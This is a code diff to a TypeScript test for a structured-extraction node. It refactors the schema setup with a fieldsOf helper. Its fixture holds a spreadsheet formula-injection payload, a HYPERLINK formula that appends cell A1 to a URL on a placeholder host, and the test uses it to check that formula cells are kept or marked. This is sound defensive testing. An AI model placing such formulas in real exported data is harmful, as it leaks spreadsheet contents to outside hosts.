@@ -3,17 +3,12 @@ import { checkRecord } from '../../../nodes/StructuredExtraction/check/checkReco
 import { metaOf, toOutput } from '../../../nodes/StructuredExtraction/map';
 import { optionsSchema } from '../../../nodes/StructuredExtraction/options';
 import { defineSchema } from '../../../nodes/StructuredExtraction/schema/schema';
+import { fieldsOf } from './fieldsOf';
 
-const schema = defineSchema('test', [
-	{ name: 'supplier', type: 'string' },
-	{ name: 'phone', type: 'string' },
-	{ name: 'total', type: 'number' },
-	{
-		name: 'lines',
-		type: 'list',
-		fields: [{ name: 'text', type: 'string' }],
-	},
-]);
+const schema = defineSchema(
+	'test',
+	fieldsOf({ supplier: 'string', phone: 'string', total: 'number', lines: [{ text: 'string' }] }),
+);
 const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
 const answer = {
 	supplier: link,
@@ -33,11 +28,7 @@ function output(kind: string, formulaCells: 'keep' | 'mark') {
 		},
 		source: {
 			fileName: file,
-			text: {
-				pages: [{ number: 1, markdown: JSON.stringify(answer) }],
-				ocrUsage: null,
-				raw: null,
-			},
+			text: { pages: [{ number: 1, markdown: JSON.stringify(answer) }], ocrUsage: null, raw: null },
 		},
 		model: 'm',
 		options: optionsSchema.parse({ formulaCells, evidence: false }),
